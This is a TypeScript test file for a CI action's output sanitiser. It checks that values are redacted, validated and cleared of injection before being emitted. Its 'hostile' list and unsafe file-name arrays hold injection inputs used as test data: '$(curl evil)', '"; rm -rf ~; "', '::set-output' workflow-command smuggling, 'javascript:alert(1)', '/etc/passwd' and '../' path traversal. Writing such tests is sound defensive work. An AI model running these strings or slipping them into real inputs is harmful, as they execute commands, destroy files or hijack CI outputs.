import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { outputText } from '../../../src/action/output/output-text.ts';
import type { OutputName } from '../../../src/operations/outputs/declarations.ts';
import { createRedactor } from '../../../src/report/text/redact.ts';
import { createToLink, safeUrl } from '../../../src/report/text/url.ts';

const secret = 'bkua_0123456789abcdef';
const rules = { redactor: createRedactor([secret]), toLink: safeUrl };
const onThisMachine = { ...rules, toLink: createToLink({ host: null, loopback: true }) };
const id = '018f2c4e-7b1a-4c3d-9e5f-0123456789ab';

const hostile = [
  ...['$(curl evil)', '`id`', 'x\n::set-output name=state::passed', '"; rm -rf ~; "', 'a b', ''],
  ...['\u202epassed', 'x'.repeat(10_000)],
];

describe('an output', () => {
  it.each<[OutputName, string, string?, typeof rules?]>([
    ['build-id', id],
    ['state', 'waiting_failed'],
    ['suite-slug', 'web-end_to.end2'],
    ['suite-url', 'https://buildkite.com/organizations/acme/analytics/suites/web'],
    ['gate-reasons', 'max-flaky failed: 3.\nmax-new passed: 0.'],
    // Only what was asked for is a secret.
    ['api-token', secret],
    ['build-url', `https://x.example/?k=${secret}`, ''],
    ['comment-url', `https://x.example/?k=${secret}`, ''],
    ['comment-reason', `Refused: ${secret}`, 'Refused: [redacted]'],
    ['gate-reasons', secret, '[redacted]'],
    ['selectors-path', `/tmp/${secret}`, '[redacted]'],
    // A sentence that quotes others is one line.
    ['comment-reason', '422\n::error::x', '422 ::error::x'],
    // An address is one that a browser may open; of this machine only if the service runs there.
    ['comment-url', 'javascript:alert(1)', ''],
    ['build-url', 'javascript:alert(1)//\n::set-output name=x::y', ''],
    ['build-url', 'http://127.0.0.1:8080/builds/1', ''],
    ['build-url', 'http://127.0.0.2:80/x', 'http://127.0.0.2/x', onThisMachine],
    ['build-url', 'http://127.evil.example/x', '', onThisMachine],
  ])('%s of %j', (name, value, expected = value, given = rules) => {
    expect(outputText(name, value, given)).toBe(expected);
  });

  it.each(hostile)('is empty if the value is not valid: %j', (text) => {
    for (const name of ['build-id', 'build-url', 'state', 'suite-slug', 'suite-url'] as const)
      expect(outputText(name, text, rules), name).toBe('');
  });

  it('holds nothing that a shell or a later address could read as more than an address', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (tail) => {
        const text = outputText('build-url', `https://x.example/${tail}`, rules);
        expect(text).toMatch(/^(?:https:\/\/[!%&+,./0-9:;=?A-Z_a-z#-]*)?$/);
      }),
    );
  });
});

describe('a list as an output', () => {
  const build = { organization: 'acme', pipeline: 'web', number: 42, id, url: 'https://x.example/42' };
  const counted = { id, web_url: null, instances: 3, score: 0.5, age: 'fresh', touched: true };
  const read = (...entries: readonly Record<string, unknown>[]) =>
    JSON.parse(outputText('builds', entries as Parameters<typeof outputText>[1], rules));

  it('is JSON with the fields that it was given', () => {
    const entries = [build, { ...build, url: null, state: 'canceled' }, { ...counted, change: 'new' }];
    expect(read(...entries)).toEqual(entries);
  });

  it.each(hostile)('has null for a field that is not valid: %j', (text) => {
    const fields = ['organization', 'pipeline', 'suite', 'id', 'url', 'state'];
    const entry = (value: string | null) => Object.fromEntries(fields.map((field) => [field, value]));
    expect(read({ ...entry(text), number: 1 })).toEqual([{ ...entry(null), number: 1 }]);
  });

  it('has a file only if it can be part of a command', () => {
    const safe = ['spec/models/cart_spec.rb', 'src/a-b/@scope/x+y.test.ts'];
    const unsafe = ['../secret', 'a/../../b', '/etc/passwd', '-rf', 'a b', 'a$(id)', 'a;b'];
    const entries = [...safe, ...unsafe].map((file) => ({ file, line: 3 }));
    expect(read(...entries)).toEqual(
      entries.map(({ file, line }) => ({ file: safe.includes(file) ? file : null, line })),
    );
  });

  it('has a downloaded file, its job and its step if they are safe to print', () => {
    const safe = ['report (1).html', 'Übersicht/日本語.txt', '.nyc/a b', 'app/[id]/x,y=1#2~'];
    const unsafe = [
      '../a',
      '-rf',
      '~/x',
      'a$(id)',
      'a`id`',
      'a;b',
      'a"b',
      "a'b",
      'a\nb',
      'a\u202Eb',
      'a\\b',
      'a|b',
    ];
    const entries = [...safe, ...unsafe].map((text) => ({ file: text, job: text, step: text }));
    const shown = [...safe, ...unsafe].map((text) => (safe.includes(text) ? text : null));
    expect(JSON.parse(outputText('files', entries, rules))).toEqual(
      shown.map((text, index) => ({
        file: text,
        job: index === safe.length ? '../a' : text,
        step: index === safe.length ? '../a' : text,
      })),
    );
  });

  it('has no unknown field, no free text, and no secret', () => {
    const entry = { suite: 'web', name: 'Web', message: 'x', more: { name: 'y' }, organization: secret };
    expect(read({ ...entry, url: `https://x.example/?k=${secret}` })).toEqual([
      { suite: 'web', organization: null, url: null },
    ]);
  });

  it('ends after the entries that fit', () => {
    const text = outputText('builds', Array(3_000).fill(build), rules);
    expect(text.length).toBeLessThanOrEqual(100_000);
    expect(JSON.parse(text).length).toBeGreaterThan(600);
  });
});
